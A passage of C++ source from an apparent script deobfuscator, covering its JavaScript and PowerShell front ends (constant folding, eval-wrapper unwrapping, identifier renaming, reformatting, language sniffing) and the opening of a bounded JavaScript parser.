      case Node::Kind::Member:
      case Node::Kind::Conditional:
      case Node::Kind::Ident:
        return true;
      default:
        return false;
    }
  }

  void fold_statement(const Node& stmt) {
    if (stmt.kind == Node::Kind::VarDecl) {
      // Declarators in order: fold each init against what is already
      // traced, then (when single-assignment and constant) trace it.
      for (const auto& decl : stmt.kids) {
        if (decl->kids.empty()) continue;
        fold_expression(*decl->kids[0]);
        trace_declarator(*decl);
      }
      return;
    }
    if (stmt.kind == Node::Kind::FunctionDecl) {
      return;  // bodies have their own scope; never folded
    }
    for (const auto& kid : stmt.kids) {
      if (is_statement(kid->kind)) {
        fold_statement(*kid);
      } else {
        fold_expression(*kid);
      }
    }
  }

  /// Records `var name = <constant>` into env when the name is
  /// single-assignment and the init is within the constant subset.
  void trace_declarator(const Node& decl) {
    if (decl.kids.empty()) return;
    if (untraceable_.count(decl.name) != 0) return;
    const std::optional<JsValue> value =
        jslang::evaluate(*decl.kids[0], visible_env(decl.begin), limits_);
    if (!value.has_value()) return;
    ++stats_.variables_traced;
    if (trace_ != nullptr) {
      TraceEvent ev;
      ev.kind = TraceEvent::Kind::VariableTraced;
      ev.offset = decl.begin;
      ev.before = decl.name;
      ev.after = jslang::to_js_literal(*value);
      if (ev.after.empty()) ev.after = jslang::js_to_string(*value);
      ev.pass = trace_->pass();
      trace_->emit(std::move(ev));
    }
    env_[decl.name] = Binding{*std::move(value), decl.end};
  }

  void fold_expression(const Node& n) {
    if (fold_candidate(n) && try_fold(n)) {
      return;  // whole subtree replaced; nothing beneath it to visit
    }
    switch (n.kind) {
      case Node::Kind::Assign:
        // Only the value side; folding the write target would turn it into
        // a write to a literal.
        if (n.kids.size() > 1) fold_expression(*n.kids[1]);
        return;
      case Node::Kind::Update:
      case Node::Kind::FunctionExpr:
      case Node::Kind::Regex:
        return;
      case Node::Kind::Call:
      case Node::Kind::New: {
        // The callee of a known decoder is a name, not a piece; fold the
        // arguments (and a member callee's receiver).
        const Node& callee = *n.kids[0];
        if ((callee.kind == Node::Kind::Member ||
             callee.kind == Node::Kind::Index) &&
            !callee.kids.empty()) {
          fold_expression(*callee.kids[0]);
        }
        for (std::size_t i = 1; i < n.kids.size(); ++i) {
          fold_expression(*n.kids[i]);
        }
        return;
      }
      case Node::Kind::Member:
        fold_expression(*n.kids[0]);
        return;
      default:
        for (const auto& kid : n.kids) {
          if (is_statement(kid->kind)) {
            fold_statement(*kid);
          } else {
            fold_expression(*kid);
          }
        }
        return;
    }
  }

  /// Attempts to fold one candidate subtree to a literal; returns true when
  /// a replacement was recorded.
  bool try_fold(const Node& n) {
    if (n.end <= n.begin || n.end > text_.size()) return false;
    const std::string_view extent = text_.substr(n.begin, n.end - n.begin);
    if (ctx_.opts != nullptr &&
        extent.size() > ctx_.opts->limits.max_piece_size) {
      return false;
    }

    // Memo: only non-trivial call pieces (decoder invocations); bare
    // identifier substitution is cheaper than the lookup would be.
    const bool memoizable = ctx_.memo != nullptr &&
                            n.kind == Node::Kind::Call && extent.size() >= 16;
    if (memoizable) {
      if (ctx_.fault != nullptr) ctx_.fault->inject(FaultSite::MemoLookup);
      const std::optional<std::string> hit =
          ctx_.memo->lookup(memo_context_, extent);
      if (hit.has_value()) {
        ++stats_.memo_hits;
        if (hit->empty() || *hit == extent) return false;
        record_fold(n, extent, *hit);
        return true;
      }
      ++stats_.memo_misses;
    }

    if (ctx_.fault != nullptr && n.kind == Node::Kind::Call) {
      ctx_.fault->inject(FaultSite::PieceExecution);
    }
    std::optional<JsValue> value;
    {
      telemetry::PhaseSpan piece_span(telemetry::Phase::PieceExecution,
                                      "js-fold");
      value = jslang::evaluate(n, visible_env(n.begin), limits_);
    }
    if (!value.has_value()) {
      if (memoizable) ctx_.memo->store(memo_context_, extent, "");
      return false;
    }
    const std::string literal = jslang::to_js_literal(*value);
    // No faithful literal form, no change, or an ASI hazard (a leading '-'
    // can fuse with the previous line into a subtraction): leave it.
    if (literal.empty() || literal == extent || literal[0] == '-') {
      if (memoizable) ctx_.memo->store(memo_context_, extent, "");
      return false;
    }
    if (memoizable) ctx_.memo->store(memo_context_, extent, literal);
    if (n.kind == Node::Kind::Call) ++stats_.pieces_folded;
    record_fold(n, extent, literal);
    return true;
  }

  void record_fold(const Node& n, std::string_view extent,
                   const std::string& literal) {
    const bool substitution = n.kind == Node::Kind::Ident;
    if (substitution) {
      ++stats_.variables_substituted;
    } else {
      ++stats_.pieces_recovered;
    }
    if (trace_ != nullptr) {
      TraceEvent ev;
      ev.kind = substitution ? TraceEvent::Kind::VariableSubstituted
                             : TraceEvent::Kind::PieceRecovered;
      ev.offset = n.begin;
      ev.before = std::string(extent);
      ev.after = literal;
      ev.pass = trace_->pass();
      trace_->emit(std::move(ev));
    }
    repls_.push_back(Replacement{n.begin, n.end, literal});
  }

  std::string_view text_;
  const jslang::EvalLimits& limits_;
  const FrontendPhaseContext& ctx_;
  std::size_t memo_context_;
  std::set<std::string> untraceable_;
  RecoveryStats& stats_;
  TraceSink* trace_;
  std::map<std::string, Binding> env_;
  std::vector<Replacement> repls_;
};

class JsFrontend final : public LanguageFrontend {
 public:
  [[nodiscard]] std::string_view name() const override { return "javascript"; }

  [[nodiscard]] bool syntax_ok(std::string_view text) const override {
    return jslang::is_valid_syntax(text);
  }

  // Phase 1: bracket-member normalization — `obj["prop"]` -> `obj.prop`
  // when the key is identifier-safe and not reserved. Purely lexical, like
  // the PowerShell tick/case pass.
  [[nodiscard]] std::string token_pass(std::string_view text,
                                       TokenPassStats& stats,
                                       TraceSink* trace) const override {
    const jslang::LexResult lexed = jslang::lex(text);
    if (!lexed.ok) return std::string(text);
    const auto& toks = lexed.tokens;
    std::vector<Replacement> repls;
    for (std::size_t i = 1; i + 2 < toks.size(); ++i) {
      const jslang::Token& open = toks[i];
      const jslang::Token& key = toks[i + 1];
      const jslang::Token& close = toks[i + 2];
      if (open.kind != jslang::TokenKind::Punct || open.text != "[") continue;
      if (close.kind != jslang::TokenKind::Punct || close.text != "]") continue;
      if (key.kind != jslang::TokenKind::String) continue;
      if (!jslang::is_identifier(key.str_value) ||
          jslang::is_reserved_word(key.str_value)) {
        continue;
      }
      // Only after something that can end a member expression; `return
      // ["a"]` is an array literal, not an index.
      const jslang::Token& prev = toks[i - 1];
      const bool member_position =
          (prev.kind == jslang::TokenKind::Ident &&
           !jslang::is_reserved_word(prev.text)) ||
          (prev.kind == jslang::TokenKind::Punct &&
           (prev.text == ")" || prev.text == "]"));
      if (!member_position) continue;
      Replacement r;
      r.begin = open.begin;
      r.end = close.end;
      r.text = "." + key.str_value;
      if (trace != nullptr) {
        TraceEvent ev;
        ev.kind = TraceEvent::Kind::TokenNormalized;
        ev.offset = open.begin;
        ev.before =
            std::string(text.substr(open.begin, close.end - open.begin));
        ev.after = r.text;
        ev.pass = trace->pass();
        trace->emit(std::move(ev));
      }
      repls.push_back(std::move(r));
      ++stats.aliases_expanded;
      i += 2;
    }
    if (repls.empty()) return std::string(text);
    return splice(text, std::move(repls));
  }

  // Phase 2: constant recovery — trace single-assignment variables, fold
  // constant subtrees largest-first, replace extents.
  [[nodiscard]] std::string recovery_pass(std::string_view text,
                                          const FrontendPhaseContext& ctx,
                                          RecoveryStats& stats,
                                          TraceSink* trace) const override {
    telemetry::PhaseSpan span(telemetry::Phase::Recovery);
    const jslang::Program program = jslang::parse(text);
    if (!program.ok) return std::string(text);

    std::set<std::string> mutated;
    std::map<std::string, int> decl_counts;
    for (const auto& stmt : program.stmts) {
      scan_mutations(*stmt, mutated, decl_counts, false);
    }
    for (const auto& [name, count] : decl_counts) {
      if (count > 1) mutated.insert(name);
    }

    jslang::EvalLimits limits;
    RecoveryOptions ro;
    if (ctx.opts != nullptr) {
      limits.max_steps = ctx.opts->limits.max_steps_per_piece;
      limits.max_value_bytes = ctx.opts->limits.max_piece_size;
      ro.max_steps_per_piece = ctx.opts->limits.max_steps_per_piece;
      ro.max_piece_size = ctx.opts->limits.max_piece_size;
      ro.extra_blocklist = ctx.opts->recovery.extra_blocklist;
    }
    limits.budget = ctx.budget;
    ro.language_salt = memo_language_salt();

    Folder folder(text, limits, ctx, pure_memo_context(ro),
                  std::move(mutated), stats, trace);
    std::vector<Replacement> repls = folder.run(program.stmts);
    if (repls.empty()) return std::string(text);
    return splice(text, std::move(repls));
  }

  // Phase 2b: unwrap whole-statement eval-like wrappers whose payload is a
  // constant string, recursing the payload through the generic pipeline.
  [[nodiscard]] std::string unwrap_layers(std::string_view text,
                                          const FrontendPhaseContext& ctx,
                                          MultilayerStats& stats,
                                          TraceSink* trace,
                                          const Recurse& recurse)
      const override {
    const jslang::Program program = jslang::parse(text);
    if (!program.ok) return std::string(text);

    jslang::EvalLimits limits;
    if (ctx.opts != nullptr) {
      limits.max_steps = ctx.opts->limits.max_steps_per_piece;
      limits.max_value_bytes = ctx.opts->limits.max_piece_size;
    }
    limits.budget = ctx.budget;

    std::vector<Replacement> repls;
    for (const auto& stmt : program.stmts) {
      if (stmt->kind != Node::Kind::ExprStmt) continue;
      const Node& expr = *stmt->kids[0];
      std::string disguise;
      std::optional<std::string> payload =
          extract_payload(expr, limits, &disguise);
      if (!payload.has_value()) continue;
      if (ctx.fault != nullptr) {
        ctx.fault->inject(FaultSite::MultilayerDecode, &*payload);
      }
      if (ctx.budget != nullptr) {
        ctx.budget->charge_bytes(payload->size());
        ctx.budget->checkpoint();
      }
      std::string inner;
      {
        telemetry::PhaseSpan decode_span(telemetry::Phase::MultilayerDecode,
                                         disguise);
        inner = recurse(*payload);
      }
      if (trace != nullptr) {
        TraceEvent ev;
        ev.kind = TraceEvent::Kind::LayerUnwrapped;
        ev.offset = stmt->begin;
        ev.before =
            std::string(text.substr(stmt->begin, stmt->end - stmt->begin));
        ev.after = inner;
        ev.pass = trace->pass();
        trace->emit(std::move(ev));
      }
      ++stats.layers_unwrapped;
      repls.push_back(Replacement{stmt->begin, stmt->end, std::move(inner)});
    }
    if (repls.empty()) return std::string(text);
    return splice(text, std::move(repls));
  }

  // Phase 3a: obfuscator-kit identifiers (`_0x1a2b3c`) -> `var{n}`.
  [[nodiscard]] std::string rename_pass(std::string_view text,
                                        RenameStats& stats,
                                        TraceSink* trace) const override {
    const jslang::LexResult lexed = jslang::lex(text);
    if (!lexed.ok) return std::string(text);
    const auto& toks = lexed.tokens;

    std::set<std::string, std::less<>> used;
    for (const auto& t : toks) {
      if (t.kind == jslang::TokenKind::Ident) used.insert(t.text);
    }
    // A kit name is "declared as a function" when any of its occurrences
    // follows the `function` keyword; classify before renaming so the
    // variables/functions split does not depend on first-use order.
    std::set<std::string> function_names;
    for (std::size_t i = 1; i < toks.size(); ++i) {
      if (toks[i].kind == jslang::TokenKind::Ident &&
          is_kit_identifier(toks[i].text) &&
          toks[i - 1].kind == jslang::TokenKind::Ident &&
          toks[i - 1].text == "function") {
        function_names.insert(toks[i].text);
      }
    }

    std::map<std::string, std::string> renames;
    int next_index = 0;
    std::vector<Replacement> repls;
    for (std::size_t i = 0; i < toks.size(); ++i) {
      const jslang::Token& t = toks[i];
      if (t.kind != jslang::TokenKind::Ident || !is_kit_identifier(t.text)) {
        continue;
      }
      // Property positions keep their name: `a._0x1` and `{_0x1: v}` are
      // keys on objects we do not model.
      if (i > 0 && toks[i - 1].kind == jslang::TokenKind::Punct &&
          (toks[i - 1].text == "." || toks[i - 1].text == "?.")) {
        continue;
      }
      if (i > 0 && i + 1 < toks.size() &&
          toks[i + 1].kind == jslang::TokenKind::Punct &&
          toks[i + 1].text == ":" &&
          toks[i - 1].kind == jslang::TokenKind::Punct &&
          (toks[i - 1].text == "{" || toks[i - 1].text == ",")) {
        continue;
      }
      auto it = renames.find(t.text);
      if (it == renames.end()) {
        std::string fresh;
        do {
          fresh = "var" + std::to_string(next_index++);
        } while (used.count(fresh) != 0);
        used.insert(fresh);
        it = renames.emplace(t.text, std::move(fresh)).first;
        if (function_names.count(t.text) != 0) {
          ++stats.functions_renamed;
        } else {
          ++stats.variables_renamed;
        }
      }
      if (trace != nullptr) {
        TraceEvent ev;
        ev.kind = TraceEvent::Kind::Renamed;
        ev.offset = t.begin;
        ev.before = t.text;
        ev.after = it->second;
        ev.pass = trace->pass();
        trace->emit(std::move(ev));
      }
      repls.push_back(Replacement{t.begin, t.end, it->second});
    }
    if (repls.empty()) return std::string(text);
    stats.renamed = true;
    return splice(text, std::move(repls));
  }

  // Phase 3b: whitespace normalization. Line structure is preserved
  // verbatim — ASI makes moving a token across a line break a semantic
  // change — so only horizontal spacing and indentation are canonicalized.
  [[nodiscard]] std::string reformat_pass(
      std::string_view text) const override {
    const jslang::LexResult lexed = jslang::lex(text);
    if (!lexed.ok || lexed.tokens.empty()) return std::string(text);
    const auto& toks = lexed.tokens;
    std::string out;
    out.reserve(text.size());
    int depth = 0;
    for (std::size_t i = 0; i < toks.size(); ++i) {
      const jslang::Token& t = toks[i];
      if (i == 0 || t.newline_before) {
        if (i != 0) out += '\n';
        int indent = depth;
        if (t.kind == jslang::TokenKind::Punct &&
            (t.text == "}" || t.text == ")" || t.text == "]")) {
          indent = depth > 0 ? depth - 1 : 0;
        }
        out.append(static_cast<std::size_t>(indent) * 2, ' ');
      } else if (needs_space(toks, i)) {
        out += ' ';
      }
      out += t.text;
      if (t.kind == jslang::TokenKind::Punct) {
        if (t.text == "{" || t.text == "(" || t.text == "[") ++depth;
        if ((t.text == "}" || t.text == ")" || t.text == "]") && depth > 0) {
          --depth;
        }
      }
    }
    if (!text.empty() && text.back() == '\n') out += '\n';
    return out;
  }

  [[nodiscard]] double sniff(std::string_view source) const override {
    // Lexical signals only, mirroring the PowerShell sniffer: each signal
    // is a JavaScript-distinctive idiom; no parse of adversarial input.
    double score = 0.0;
    if (has_keyword(source, "function")) score += 0.3;
    if (has_keyword(source, "var") || has_keyword(source, "let") ||
        has_keyword(source, "const")) {
      score += 0.25;
    }
    if (source.find("eval(") != std::string_view::npos ||
        source.find("atob(") != std::string_view::npos ||
        source.find("unescape(") != std::string_view::npos ||
        source.find("fromCharCode") != std::string_view::npos) {
      score += 0.25;
    }
    if (source.find("_0x") != std::string_view::npos) score += 0.2;
    if (source.find("===") != std::string_view::npos ||
        source.find("!==") != std::string_view::npos) {
      score += 0.15;
    }
    if (source.find("window.") != std::string_view::npos ||
        source.find("document.") != std::string_view::npos ||
        source.find("globalThis.") != std::string_view::npos) {
      score += 0.15;
    }
    return score > 1.0 ? 1.0 : score;
  }

  [[nodiscard]] std::size_t memo_language_salt() const override {
    // Arbitrary fixed nonzero constant (ASCII "javascri"), distinct from
    // the reserved PowerShell salt 0.
    return 0x6a61766173637269ull;
  }

 private:
  static bool is_kit_identifier(std::string_view name) {
    if (name.size() < 4 || name.substr(0, 3) != "_0x") return false;
    for (char c : name.substr(3)) {
      const bool hex = (c >= '0' && c <= '9') || (c >= 'a' && c <= 'f') ||
                       (c >= 'A' && c <= 'F');
      if (!hex) return false;
    }
    return true;
  }

  static bool has_keyword(std::string_view source, std::string_view word) {
    std::size_t pos = 0;
    while ((pos = source.find(word, pos)) != std::string_view::npos) {
      const bool left_ok =
          pos == 0 ||
          (std::isalnum(static_cast<unsigned char>(source[pos - 1])) == 0 &&
           source[pos - 1] != '_' && source[pos - 1] != '$');
      const std::size_t after = pos + word.size();
      const bool right_ok =
          after >= source.size() ||
          (std::isalnum(static_cast<unsigned char>(source[after])) == 0 &&
           source[after] != '_' && source[after] != '$');
      if (left_ok && right_ok) return true;
      pos = after;
    }
    return false;
  }

  /// Recognizes a whole-expression eval-like wrapper and evaluates its
  /// payload argument to a constant string. Supported disguises:
  /// `eval(s)`, `window.eval(s)` (and globalThis/self), `Function(s)()`,
  /// `new Function(s)()`, `setTimeout(s, ...)` / `setInterval(s, ...)`.
  static std::optional<std::string> extract_payload(
      const Node& expr, const jslang::EvalLimits& limits,
      std::string* disguise) {
    if (expr.kind != Node::Kind::Call || expr.kids.empty()) {
      return std::nullopt;
    }
    const Node& callee = *expr.kids[0];

    const Node* payload_arg = nullptr;
    if (callee.kind == Node::Kind::Ident) {
      if (callee.name == "eval" && expr.kids.size() == 2) {
        payload_arg = expr.kids[1].get();
        *disguise = "eval";
      } else if ((callee.name == "setTimeout" ||
                  callee.name == "setInterval") &&
                 expr.kids.size() >= 2) {
        payload_arg = expr.kids[1].get();
        *disguise = callee.name;
      }
    } else if (callee.kind == Node::Kind::Member && callee.name == "eval" &&
               expr.kids.size() == 2) {
      const Node& object = *callee.kids[0];
      if (object.kind == Node::Kind::Ident &&
          (object.name == "window" || object.name == "globalThis" ||
           object.name == "self")) {
        payload_arg = expr.kids[1].get();
        *disguise = object.name + ".eval";
      }
    } else if ((callee.kind == Node::Kind::Call ||
                callee.kind == Node::Kind::New) &&
               expr.kids.size() == 1 && callee.kids.size() == 2) {
      const Node& fn = *callee.kids[0];
      if (fn.kind == Node::Kind::Ident && fn.name == "Function") {
        payload_arg = callee.kids[1].get();
        *disguise = "Function";
      }
    }
    if (payload_arg == nullptr) return std::nullopt;

    const std::map<std::string, JsValue> empty_env;
    const std::optional<JsValue> value =
        jslang::evaluate(*payload_arg, empty_env, limits);
    if (!value.has_value() || value->kind != JsValue::Kind::String) {
      return std::nullopt;
    }
    return value->string;
  }

  // Spacing policy for same-line adjacent tokens in reformat_pass.
  static bool needs_space(const std::vector<jslang::Token>& toks,
                          std::size_t i) {
    const jslang::Token& prev = toks[i - 1];
    const jslang::Token& cur = toks[i];
    const auto punct = [](const jslang::Token& t, std::string_view text) {
      return t.kind == jslang::TokenKind::Punct && t.text == text;
    };
    const bool prev_is_value_end =
        prev.kind == jslang::TokenKind::Ident ||
        prev.kind == jslang::TokenKind::Number ||
        prev.kind == jslang::TokenKind::String ||
        prev.kind == jslang::TokenKind::Regex || punct(prev, ")") ||
        punct(prev, "]");
    // Tight pairs.
    if (punct(prev, "(") || punct(prev, "[") || punct(prev, ".") ||
        punct(prev, "?.")) {
      return false;
    }
    if (punct(cur, ")") || punct(cur, "]") || punct(cur, ";") ||
        punct(cur, ",") || punct(cur, ".") || punct(cur, "?.")) {
      return false;
    }
    // Call / index: `f(x)`, `a[0]` — but `if (`, `return [` keep a space.
    if (punct(cur, "(") || punct(cur, "[")) {
      if (prev.kind == jslang::TokenKind::Ident &&
          jslang::is_reserved_word(prev.text)) {
        return true;
      }
      return !prev_is_value_end;
    }
    // Unary context: an operator right after a punct that cannot end a
    // value binds tight (`= -1`, `(!x)`).
    if ((punct(cur, "-") || punct(cur, "+") || punct(cur, "!") ||
         punct(cur, "~")) &&
        !prev_is_value_end) {
      return true;  // space before the unary op itself (`= -1`)
    }
    if ((punct(prev, "-") || punct(prev, "+") || punct(prev, "!") ||
         punct(prev, "~")) &&
        i >= 2) {
      const jslang::Token& before_op = toks[i - 2];
      const bool op_is_unary =
          (before_op.kind == jslang::TokenKind::Punct &&
           !(before_op.text == ")" || before_op.text == "]" ||
             before_op.text == "++" || before_op.text == "--")) ||
          (before_op.kind == jslang::TokenKind::Ident &&
           jslang::is_reserved_word(before_op.text));
      if (op_is_unary && !prev.newline_before) return false;
    }
    return true;
  }
};

}  // namespace

std::shared_ptr<const LanguageFrontend> make_js_frontend() {
  return std::make_shared<const JsFrontend>();
}

}  // namespace ideobf
