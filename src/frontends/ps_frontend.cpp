#include "frontends/ps_frontend.h"

#include <cctype>
#include <cstddef>
#include <memory>
#include <string>
#include <string_view>
#include <utility>

#include "core/multilayer.h"
#include "core/recovery.h"
#include "core/reformat.h"
#include "core/rename.h"
#include "core/token_pass.h"
#include "psast/parse_cache.h"
#include "psast/parser.h"

namespace ideobf {

namespace {

class PsFrontend final : public LanguageFrontend {
 public:
  explicit PsFrontend(std::shared_ptr<ps::ParseCache> cache)
      : cache_(std::move(cache)) {}

  [[nodiscard]] std::string_view name() const override { return "powershell"; }

  [[nodiscard]] bool syntax_ok(std::string_view text) const override {
    return cache_ != nullptr ? cache_->is_valid(text)
                             : ps::is_valid_syntax(text);
  }

  [[nodiscard]] std::string token_pass(std::string_view text,
                                       TokenPassStats& stats,
                                       TraceSink* trace) const override {
    return ideobf::token_pass(text, &stats, trace);
  }

  [[nodiscard]] std::string recovery_pass(std::string_view text,
                                          const FrontendPhaseContext& ctx,
                                          RecoveryStats& stats,
                                          TraceSink* trace) const override {
    const Options& opts = *ctx.opts;
    RecoveryOptions ro;
    ro.max_steps_per_piece = opts.limits.max_steps_per_piece;
    ro.max_piece_size = opts.limits.max_piece_size;
    ro.extra_blocklist = opts.recovery.extra_blocklist;
    ro.trace_functions = opts.recovery.trace_functions;
    ro.memo = ctx.memo;
    ro.budget = ctx.budget;
    ro.fault = ctx.fault;
    ro.language_salt = memo_language_salt();
    if (cache_ != nullptr) {
      const ps::ParseCache::Result parsed = cache_->get(text);
      return parsed.ast == nullptr
                 ? std::string(text)
                 : ideobf::recovery_pass(text, parsed.ast, ro, &stats, trace,
                                         cache_.get());
    }
    return ideobf::recovery_pass(text, ro, &stats, trace);
  }

  [[nodiscard]] std::string unwrap_layers(std::string_view text,
                                          const FrontendPhaseContext& ctx,
                                          MultilayerStats& stats,
                                          TraceSink* trace,
                                          const Recurse& recurse) const override {
    if (cache_ != nullptr) {
      const ps::ParseCache::Result parsed = cache_->get(text);
      if (parsed.ast == nullptr) return std::string(text);
      return ideobf::unwrap_layers(text, *parsed.ast, recurse, &stats, trace,
                                   cache_.get(), ctx.budget, ctx.fault);
    }
    return ideobf::unwrap_layers(text, recurse, &stats, trace);
  }

  [[nodiscard]] std::string rename_pass(std::string_view text,
                                        RenameStats& stats,
                                        TraceSink* trace) const override {
    return ideobf::rename_pass(text, &stats, trace);
  }

  [[nodiscard]] std::string reformat_pass(
      std::string_view text) const override {
    return ideobf::reformat_pass(text);
  }

  [[nodiscard]] double sniff(std::string_view source) const override {
    // Lexical signals only — sniffing runs before any parse and on
    // arbitrary bytes. Each signal is a PowerShell-distinctive idiom.
    double score = 0.0;
    bool dollar_var = false;    // $name
    bool backtick = false;      // escape/tick character
    bool dash_cmdlet = false;   // Verb-Noun command
    bool dash_operator = false; // -join / -eq / -f style operator
    for (std::size_t i = 0; i < source.size(); ++i) {
      const char c = source[i];
      if (c == '$' && i + 1 < source.size() &&
          (std::isalpha(static_cast<unsigned char>(source[i + 1])) != 0 ||
           source[i + 1] == '_' || source[i + 1] == '{')) {
        dollar_var = true;
      } else if (c == '`') {
        backtick = true;
      } else if (c == '-' && i > 0 && i + 1 < source.size()) {
        const unsigned char prev = static_cast<unsigned char>(source[i - 1]);
        const unsigned char next = static_cast<unsigned char>(source[i + 1]);
        if (std::isalpha(prev) != 0 && std::isupper(next) != 0) {
          dash_cmdlet = true;
        } else if ((prev == ' ' || prev == '(') && std::isalpha(next) != 0) {
          dash_operator = true;
        }
      }
    }
    if (dollar_var) score += 0.45;
    if (dash_cmdlet) score += 0.3;
    if (backtick) score += 0.2;
    if (dash_operator) score += 0.15;
    // The default-language floor: ambiguous text stays PowerShell.
    if (score < 0.05) score = 0.05;
    return score > 1.0 ? 1.0 : score;
  }

  [[nodiscard]] std::size_t memo_language_salt() const override {
    // 0, reserved: PowerShell memo fingerprints predate the front-end
    // boundary and must stay byte-identical (the salt is XOR-mixed).
    return 0;
  }

 private:
  std::shared_ptr<ps::ParseCache> cache_;
};

}  // namespace

std::shared_ptr<const LanguageFrontend> make_ps_frontend(
    std::shared_ptr<ps::ParseCache> parse_cache) {
  return std::make_shared<const PsFrontend>(std::move(parse_cache));
}

}  // namespace ideobf
