#include "jslang/parser.h"

#include <cstddef>
#include <string>
#include <utility>

#include "jslang/lexer.h"

namespace jslang {

namespace {

/// Internal parse abort; caught in parse() and turned into Program::error.
struct ParseFail {
  std::string message;
};

class Parser {
 public:
  explicit Parser(std::vector<Token> tokens) : tokens_(std::move(tokens)) {}

  Program run() {
    Program program;
    try {
      while (!at_end()) {
        program.stmts.push_back(statement());
      }
      program.ok = true;
    } catch (const ParseFail& fail) {
      program.stmts.clear();
      program.ok = false;
      program.error = fail.message;
    }
    return program;
  }

 private:
  // Hostile-input bounds, mirroring the PS parser's: recursion and node
  // count fail the parse, never the process.
  static constexpr int kMaxDepth = 200;
  static constexpr std::size_t kMaxNodes = 200000;

  struct DepthGuard {
    explicit DepthGuard(Parser& p) : parser(p) {
      if (++parser.depth_ > kMaxDepth) {
        throw ParseFail{"expression nesting too deep"};
      }
    }
    ~DepthGuard() { --parser.depth_; }
    Parser& parser;
  };

  [[noreturn]] void fail(std::string message) const {
    throw ParseFail{std::move(message)};
  }

  NodePtr make(Node::Kind kind, std::size_t begin, std::size_t end) {
    if (++nodes_ > kMaxNodes) fail("program too large");
    auto node = std::make_unique<Node>();
    node->kind = kind;
    node->begin = begin;
    node->end = end;
    return node;
  }

  [[nodiscard]] bool at_end() const { return pos_ >= tokens_.size(); }
  [[nodiscard]] const Token& peek() const {
    if (at_end()) fail("unexpected end of input");
    return tokens_[pos_];
  }
  const Token& advance() {
    const Token& t = peek();
    ++pos_;
    return t;
  }
  [[nodiscard]] bool check(std::string_view text) const {
    return !at_end() && tokens_[pos_].text == text &&
           tokens_[pos_].kind != TokenKind::String;
  }
  bool match(std::string_view text) {
    if (!check(text)) return false;
    ++pos_;
    return true;
  }
  const Token& expect(std::string_view text, const char* where) {
    if (!check(text)) {
      fail(std::string("expected '") + std::string(text) + "' in " + where);
    }
    return advance();
  }
  [[nodiscard]] bool check_kind(TokenKind kind) const {
    return !at_end() && tokens_[pos_].kind == kind;
  }
  /// A plain (non-reserved) identifier at the cursor.
  [[nodiscard]] bool check_name() const {
    return check_kind(TokenKind::Ident) && !is_reserved_word(peek().text);
  }

  /// Statement terminator: explicit ';', or automatic insertion before a
  /// '}' / end of input / line break.
  void consume_semicolon(const char* where) {
    if (match(";")) return;
    if (at_end() || check("}") || peek().newline_before) return;
    fail(std::string("expected ';' after ") + where);
  }

  // --- statements ---------------------------------------------------------

  NodePtr statement() {
    DepthGuard guard(*this);
    const Token& t = peek();
    if (t.kind == TokenKind::Punct) {
      if (t.text == "{") return block();
      if (t.text == ";") {
        NodePtr node = make(Node::Kind::Empty, t.begin, t.end);
        advance();
        return node;
      }
    }
    if (t.kind == TokenKind::Ident) {
      if (t.text == "var" || t.text == "let" || t.text == "const") {
        NodePtr decl = var_decl();
        consume_semicolon("variable declaration");
        if (!at_end()) decl->end = tokens_[pos_ - 1].end;
        return decl;
      }
      if (t.text == "function") return function_node(Node::Kind::FunctionDecl);
      if (t.text == "if") return if_statement();
      if (t.text == "while") return while_statement();
      if (t.text == "do") return do_while_statement();
      if (t.text == "for") return for_statement();
      if (t.text == "try") return try_statement();
      if (t.text == "return" || t.text == "throw") {
        const bool is_throw = t.text == "throw";
        advance();
        NodePtr node = make(is_throw ? Node::Kind::Throw : Node::Kind::Return,
                            t.begin, t.end);
        const bool has_value =
            !at_end() && !check(";") && !check("}") && !peek().newline_before;
        if (is_throw && !has_value) fail("throw requires an argument");
        if (has_value) {
          node->kids.push_back(expression());
          node->end = node->kids.back()->end;
        }
        consume_semicolon("statement");
        return node;
      }
      if (t.text == "break" || t.text == "continue") {
        advance();
        NodePtr node = make(t.text == "break" ? Node::Kind::BreakStmt
                                              : Node::Kind::ContinueStmt,
                            t.begin, t.end);
        if (check_name() && !peek().newline_before) advance();  // label
        consume_semicolon("statement");
        return node;
      }
    }
    // expression statement
    NodePtr expr = expression();
    NodePtr node = make(Node::Kind::ExprStmt, expr->begin, expr->end);
    node->kids.push_back(std::move(expr));
    consume_semicolon("expression");
    return node;
  }

  NodePtr block() {
    const Token& open = expect("{", "block");
    NodePtr node = make(Node::Kind::Block, open.begin, open.end);
    while (!check("}")) {
      if (at_end()) fail("unterminated block");
      node->kids.push_back(statement());
    }
    node->end = advance().end;  // '}'
    return node;
  }

  /// `var|let|const` declarator list, without the terminator (shared by
  /// plain declarations and for-headers).
  NodePtr var_decl() {
    const Token& kw = advance();
    NodePtr node = make(Node::Kind::VarDecl, kw.begin, kw.end);
    node->name = kw.text;
    while (true) {
      if (!check_name()) fail("expected variable name");
      const Token& name = advance();
      NodePtr decl = make(Node::Kind::Declarator, name.begin, name.end);
      decl->name = name.text;
      if (match("=")) {
        decl->kids.push_back(assignment());
        decl->end = decl->kids.back()->end;
      }
      node->end = decl->end;
      node->kids.push_back(std::move(decl));
      if (!match(",")) break;
    }
    return node;
  }

  NodePtr if_statement() {
    const Token& kw = advance();  // 'if'
    NodePtr node = make(Node::Kind::If, kw.begin, kw.end);
    expect("(", "if");
    node->kids.push_back(expression());
    expect(")", "if");
    node->kids.push_back(statement());
    node->end = node->kids.back()->end;
    if (check("else")) {
      advance();
      node->kids.push_back(statement());
      node->end = node->kids.back()->end;
    }
    return node;
  }

  NodePtr while_statement() {
    const Token& kw = advance();  // 'while'
    NodePtr node = make(Node::Kind::While, kw.begin, kw.end);
    expect("(", "while");
    node->kids.push_back(expression());
    expect(")", "while");
    node->kids.push_back(statement());
    node->end = node->kids.back()->end;
    return node;
  }

  NodePtr do_while_statement() {
    const Token& kw = advance();  // 'do'
    NodePtr node = make(Node::Kind::DoWhile, kw.begin, kw.end);
    node->kids.push_back(statement());
    if (!check("while")) fail("expected 'while' after do body");
    advance();
    expect("(", "do-while");
    node->kids.push_back(expression());
    const Token& close = expect(")", "do-while");
    node->end = close.end;
    consume_semicolon("do-while");
    return node;
  }

  NodePtr for_statement() {
    const Token& kw = advance();  // 'for'
    NodePtr node = make(Node::Kind::For, kw.begin, kw.end);
    expect("(", "for");
    // init clause: declaration, expression, or empty
    if (!check(";")) {
      if (check("var") || check("let") || check("const")) {
        node->kids.push_back(var_decl());
      } else {
        node->kids.push_back(expression());
      }
      // for-in / for-of: the body is all that remains
      if (check("in") || check("of")) {
        advance();
        node->kids.push_back(expression());
